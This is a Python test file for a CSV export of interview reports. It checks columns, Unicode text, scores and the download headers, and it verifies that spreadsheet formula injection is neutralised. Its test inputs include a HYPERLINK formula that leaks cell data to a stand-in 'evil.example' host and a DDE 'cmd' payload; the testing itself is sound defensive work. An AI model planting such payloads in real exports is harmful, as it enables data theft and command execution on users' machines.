"""The table of answers: formulas, names in every script, and what a reader gets."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from signaling.report_csv import COLUMNS, table
from tests.browser import report_states
from tests.report import example
from tests.report.place import opened


def rows_of(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def report() -> dict[str, Any]:
    return example.as_served(example.report(example.told()))


def test_one_row_for_each_prompt() -> None:
    text = table(report())
    assert text.count("\r\n") == text.count("\n"), "RFC 4180"
    rows = rows_of(text)
    assert tuple(rows[0]) == COLUMNS
    assert [row["number"] for row in rows] == ["1", "1a", "2", "3", "4", "5", "6"]
    assert {row["candidate_external_id"] for row in rows} == {
        "applicant-4711 · Zoë Müller-Łuczak 李"
    }
    cold = rows[2]
    assert cold["answer"].startswith("Deliveries are checked first")
    assert (cold["lost_ms"], cold["level_dbfs"]) == ("1840", "-27.0")
    assert float(cold["level_dbfs"]) < 0, "a number stays one"
    assert cold["usable"] == "false"
    assert "untranscribed" in cold["quality_reasons"].split()
    assert (rows[5]["status"], rows[5]["answer"]) == ("skipped", "")


def test_scores_stand_with_their_question_and_decisions_apart() -> None:
    body = report()
    report_states.evaluated(body)
    rows = rows_of(table(body))
    assert (rows[0]["scores_proposed"], rows[0]["scores_final"]) == ("measure: 4 | own: 3.5", "")
    assert rows[1]["scores_proposed"] == "", "a follow-up is judged with its question"
    assert rows[2]["scores_proposed"] == "measure: - | own: -"
    assert (rows[2]["scores_final"], rows[2]["decided_by"]) == ("own: 3", "Ada Weber")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\tx",
        "\rx",
        "\nx",
        "  =1",
        "＝1",  # noqa: RUF001
    ],
)
def test_no_formula(text: str) -> None:
    body = report()
    body["result"]["answers"][0]["text"] = text
    body["result"]["answers"][0]["asked_text"] = text
    body["interview"]["title"] = text
    row = rows_of(table(body))[0]
    for name in ("answer", "asked", "title"):
        assert row[name] == f"'{text}"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize(
    "text",
    ["well;=1+1", "well; =1+1", "well\n=1+1", "well\r\n+1", "\t=1", "\n=1", 'a";@SUM(1)', ";;-1"],
)
def test_no_formula_for_who_separates_otherwise(text: str, separator: str) -> None:
    """Excel takes the semicolon where the comma is the decimal sign."""
    body = report()
    body["result"]["answers"][0]["text"] = text
    body["result"]["answers"][0]["asked_text"] = text
    table_read = csv.reader(io.StringIO(table(body), newline=""), delimiter=separator)
    cells = [cell.strip() for row in table_read for cell in row]
    assert any("'" in cell for cell in cells)
    formulas = [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert [cell for cell in formulas if not re.fullmatch(r"-[\d.]+", cell)] == []


@pytest.mark.parametrize(
    "text",
    [
        *("李小龍", "Зоя", "زينب", "e\u0301", "\U0001f469\u200d\U0001f373", ""),
        *('said "no", twice', "two\nlines", "a;b,c", "two\r\nlines"),
    ],
)
def test_texts_come_back_as_they_were(text: str) -> None:
    body = report()
    body["result"]["answers"][0]["text"] = text
    assert rows_of(table(body))[0]["answer"] == text


async def test_served(tmp_path: Path) -> None:
    async with opened(tmp_path, sound=False) as place:
        answer = await place.get("/report.csv", (await place.link())["auth"])
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert answer.headers["Content-Disposition"] == 'attachment; filename="iv_example.csv"'
        data = await answer.read()
        assert data.startswith(b"\xef\xbb\xbf")
        assert len(rows_of(data.decode())) == 7
